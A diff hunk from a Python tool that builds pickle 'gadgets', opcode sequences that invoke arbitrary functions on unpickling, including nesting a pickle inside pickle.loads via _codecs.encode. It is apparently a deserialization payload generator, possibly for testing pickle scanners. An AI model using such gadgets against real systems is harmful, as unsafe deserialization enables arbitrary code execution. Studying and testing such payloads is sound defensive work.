@@ -143,7 +143,7 @@ def make_gadget(family: str, writer: Writer, function: tuple[str, str, Callable[
         put, get = b'q\x07', b'h\x07'
         return writer.name(module, name) + put + b'0' + get + writer.arguments(*values) + b'R' + put + b'0' + get
     assert family == 'pickle in pickle'
-    inner = pickle.dumps({}, 2)[:-1] + b'0' + writer.call(writer.name(module, name), *values) + b'.'
+    inner = writer.start + b'}0' + writer.call(writer.name(module, name), *values) + b'.'
     return writer.call(
         writer.name('pickle', 'loads'),
         writer.call(writer.name('_codecs', 'encode'), writer.text(inner.decode('latin1')), writer.text('latin1')),
